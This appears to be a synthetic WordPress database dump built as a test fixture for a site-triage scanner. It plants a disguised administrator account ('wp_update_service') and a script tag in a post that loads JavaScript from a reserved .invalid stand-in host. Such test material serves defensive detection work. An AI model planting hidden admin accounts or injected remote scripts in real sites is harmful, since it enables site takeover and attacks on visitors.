-- Site Triage test sample — a made-up WordPress database dump. Injected script points at a
-- reserved .invalid host; password hashes are not real.
CREATE TABLE `wp_users` (`ID` bigint(20) unsigned NOT NULL AUTO_INCREMENT, `user_login` varchar(60) NOT NULL, `user_pass` varchar(255) NOT NULL, `user_email` varchar(100) NOT NULL, `user_registered` datetime NOT NULL, PRIMARY KEY (`ID`));
INSERT INTO `wp_users` VALUES (1,'jane','$P$Bsamplehashnotreal000000000000.','jane@example.com','2021-04-12 08:00:00'),(2,'editor-tom','$P$Bsamplehashnotreal111111111111.','tom@example.com','2022-09-01 10:30:00'),(7,'wp_update_service','$P$Bsamplehashnotreal222222222222.','wpupdate@example.invalid','2024-03-05 02:16:55');
CREATE TABLE `wp_usermeta` (`umeta_id` bigint(20) unsigned NOT NULL AUTO_INCREMENT, `user_id` bigint(20) unsigned NOT NULL, `meta_key` varchar(255), `meta_value` longtext, PRIMARY KEY (`umeta_id`));
INSERT INTO `wp_usermeta` VALUES (1,1,'wp_capabilities','a:1:{s:13:\"administrator\";b:1;}'),(2,2,'wp_capabilities','a:1:{s:6:\"editor\";b:1;}'),(9,7,'wp_capabilities','a:1:{s:13:\"administrator\";b:1;}');
CREATE TABLE `wp_options` (`option_id` bigint(20) unsigned NOT NULL AUTO_INCREMENT, `option_name` varchar(191) NOT NULL, `option_value` longtext NOT NULL, PRIMARY KEY (`option_id`));
INSERT INTO `wp_options` VALUES (1,'siteurl','https://jane-example.test'),(2,'home','https://jane-example.test'),(33,'active_plugins','a:1:{i:0;s:19:\"akismet/akismet.php\";}');
CREATE TABLE `wp_posts` (`ID` bigint(20) unsigned NOT NULL AUTO_INCREMENT, `post_title` text NOT NULL, `post_content` longtext NOT NULL, PRIMARY KEY (`ID`));
INSERT INTO `wp_posts` VALUES (12,'Welcome','<p>Welcome to our shop.</p><script src=\"https://cdn-stats.example.invalid/j.js\"></script>');
